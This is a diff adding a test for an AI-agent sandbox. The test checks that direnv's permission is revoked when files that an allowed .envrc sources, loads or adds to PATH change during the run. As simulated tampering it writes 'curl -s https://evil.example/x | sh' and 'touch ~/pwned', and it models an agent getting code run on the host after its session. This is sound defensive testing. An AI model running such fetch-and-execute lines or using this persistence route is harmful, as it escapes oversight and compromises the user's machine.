@@ -2113,6 +2113,120 @@ t.test('twenty-seventh pass: mise\'s trust of a config the run changed is taken 
   t.ok(fs.existsSync(kept) && fs.existsSync(`${kept}.hash`), 'control: an unchanged trusted config keeps its trust');
 });
 
+t.test('twenty-eighth pass: property: what an allowed .envrc sources, loads or puts on PATH (source_env, source_env_if_exists, source, ., source_up, dotenv, PATH_add, path_add, PATH=$PWD/…) changed during the run: direnv\'s permission is taken back and the file named; untouched, it keeps it', async (t) => {
+  const { untrustDirenv } = await import('../../sandbox/entry-files.ts');
+  const { createHash } = await import('node:crypto');
+  const base = fs.mkdtempSync(path.join(world.dir, 'direnv-'));
+  // As `direnv allow` leaves it: a file named by the SHA-256 of the path, a newline and the content.
+  const allow = (home: string, envrc: string): string => {
+    const dir = path.join(home, '.local', 'share', 'direnv', 'allow');
+    fs.mkdirSync(dir, { recursive: true });
+    const entry = path.join(dir, createHash('sha256').update(`${envrc}\n`).update(fs.readFileSync(envrc)).digest('hex'));
+    fs.writeFileSync(entry, `${envrc}\n`);
+    return entry;
+  };
+  // File times come from the kernel's coarse clock (a tick, 4 ms at HZ=250): a write must come
+  // well after `since` to read as after it, as the other tests here wait.
+  const settle = async (): Promise<number> => {
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    return since;
+  };
+  // What the .envrc says, and the file or folder that then runs: [line, target relative to the project, kind].
+  const spellings = (rel: string): string[] => [rel, `./${rel}`, `$PWD/${rel}`, `\${PWD}/${rel}`, `"$(pwd)/${rel}"`, `'${rel}'`];
+  const directive = fc.oneof(
+    fc.constantFrom('source_env', 'source_env_if_exists', 'source', '.').map((cmd) => ({ cmd, target: 'config/env.sh', kind: 'file' as const })),
+    fc.constant({ cmd: 'source_env', target: 'shared', kind: 'dir-envrc' as const }),
+    fc.constantFrom('dotenv', 'dotenv_if_exists').map((cmd) => ({ cmd, target: 'config/dev.env', kind: 'file' as const })),
+    fc.constantFrom('PATH_add', 'path_add PATH', 'load_prefix').map((cmd) => ({ cmd, target: cmd === 'load_prefix' ? 'prefix' : 'tools', kind: 'folder' as const })),
+    fc.constant({ cmd: 'export PATH=', target: 'tools', kind: 'assign' as const }),
+  );
+  const wrap = fc.constantFrom(
+    (c: string) => c,
+    (c: string) => `[ -e x ] || true; ${c}`,
+    (c: string) => `if has nix; then :; else ${c}; fi`,
+    (c: string) => `${c} # local settings`,
+    (c: string) => `  ${c} && log_status loaded`,
+  );
+  let n = 0;
+  await fc.assert(fc.asyncProperty(directive, fc.nat(5), wrap, fc.constantFrom('changed', 'made', 'untouched'), async (d, spelling, around, what) => {
+    const home = path.join(base, String(n++));
+    const work = path.join(home, 'proj');
+    fs.mkdirSync(path.join(work, 'config'), { recursive: true });
+    fs.mkdirSync(path.join(work, 'shared'));
+    fs.mkdirSync(path.join(work, 'tools'));
+    fs.mkdirSync(path.join(work, 'prefix', 'bin'), { recursive: true });
+    const arg = spellings(d.target)[spelling]!;
+    const line = d.kind === 'assign' ? `export PATH="${arg}:$PATH"` : `${d.cmd} ${arg}`;
+    fs.writeFileSync(path.join(work, '.envrc'), `${around(line)}\n`);
+    // What runs: the file itself, `.envrc` in the folder, a program in the folder.
+    const runs = d.kind === 'file' ? path.join(work, d.target) : d.kind === 'dir-envrc' ? path.join(work, d.target, '.envrc')
+      : path.join(work, d.target, d.cmd === 'load_prefix' ? 'bin/git' : 'git');
+    if (what !== 'made') fs.writeFileSync(runs, 'export A=1\n');
+    const entry = allow(home, path.join(work, '.envrc'));
+    const since = await settle();
+    if (what !== 'untouched') fs.writeFileSync(runs, 'curl -s https://evil.example/x | sh\n');
+    const out = untrustDirenv(since, home, {});
+    const named = out.map((f) => f.path);
+    if (what === 'untouched') {
+      if (out.length || !fs.existsSync(entry)) throw new Error(`control: nothing changed, yet ${JSON.stringify(named)} / allow removed for ${line}`);
+      return;
+    }
+    const shown = d.kind === 'file' || d.kind === 'dir-envrc' ? runs : path.dirname(runs);
+    if (!named.includes(shown)) throw new Error(`${line} (${what}): ${shown} not named: ${JSON.stringify(named)}`);
+    if (fs.existsSync(entry)) throw new Error(`${line} (${what}): direnv still allows the .envrc`);
+  }), { numRuns: 40 });
+  t.pass('every spelling: taken back and named when changed or made, kept when untouched');
+
+  // source_up: the .envrc of a folder above, which direnv sources without asking about it.
+  const home = path.join(base, 'up');
+  const work = path.join(home, 'src', 'proj');
+  fs.mkdirSync(work, { recursive: true });
+  fs.writeFileSync(path.join(work, '.envrc'), 'source_up\n');
+  fs.writeFileSync(path.join(home, 'src', '.envrc'), 'export ORG=1\n');
+  // A second allowed .envrc that sources nothing changed: keeps its permission.
+  fs.mkdirSync(path.join(home, 'other'));
+  fs.writeFileSync(path.join(home, 'other', '.envrc'), 'source_env_if_exists .envrc.user\n');
+  const upEntry = allow(home, path.join(work, '.envrc'));
+  const otherEntry = allow(home, path.join(home, 'other', '.envrc'));
+  const since = await settle();
+  fs.appendFileSync(path.join(home, 'src', '.envrc'), 'touch ~/pwned\n');
+  const out = untrustDirenv(since, home, {}).map((f) => f.path);
+  t.ok(out.includes(path.join(home, 'src', '.envrc')) && !fs.existsSync(upEntry), 'source_up: the folder above\'s .envrc is named and the permission taken back');
+  t.ok(fs.existsSync(otherEntry), 'control: another allowed .envrc whose files did not change keeps its permission');
+
+  // With direnv itself (where installed): it ran the changed sourced file without asking; after, it refuses.
+  const direnv = (() => {
+    try {
+      return execFileSync('sh', ['-c', 'command -v direnv'], { encoding: 'utf8' }).trim();
+    } catch {
+      return '';
+    }
+  })();
+  if (!direnv) return;
+  const real = path.join(base, 'real');
+  const proj = path.join(real, 'proj');
+  fs.mkdirSync(proj, { recursive: true });
+  fs.writeFileSync(path.join(proj, '.envrc'), 'source_env_if_exists .envrc.user\n');
+  const denv = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('DIRENV_') && k !== 'XDG_DATA_HOME' && k !== 'XDG_CONFIG_HOME'));
+  Object.assign(denv, { HOME: real });
+  execFileSync(direnv, ['allow', proj], { env: denv, stdio: 'ignore' });
+  const realSince = await settle();
+  const marker = path.join(real, 'pwned');
+  fs.writeFileSync(path.join(proj, '.envrc.user'), `touch ${JSON.stringify(marker)}\n`);
+  execFileSync(direnv, ['exec', proj, 'true'], { env: denv, stdio: 'ignore' });
+  t.ok(fs.existsSync(marker), 'direnv runs what an allowed .envrc sources, changed, without asking (the attack)');
+  fs.rmSync(marker);
+  untrustDirenv(realSince, real, {});
+  let refused = false;
+  try {
+    execFileSync(direnv, ['exec', proj, 'true'], { env: denv, stdio: 'ignore' });
+  } catch {
+    refused = true;
+  }
+  t.ok(refused && !fs.existsSync(marker), 'after the run direnv refuses the .envrc until it is allowed again, and runs nothing');
+});
+
 t.test('twenty-seventh pass: the git airlock run itself runs on the host after the run (its review of the repository) is the one found before it: never one the agent put first on PATH, nor that one rewritten', async (t) => {
   // After the agent exits, airlock run reads the repository with git (refs rewritten, files git's
   // view hides, packs) on the host, as the user, before the report: a `git` the agent put in a
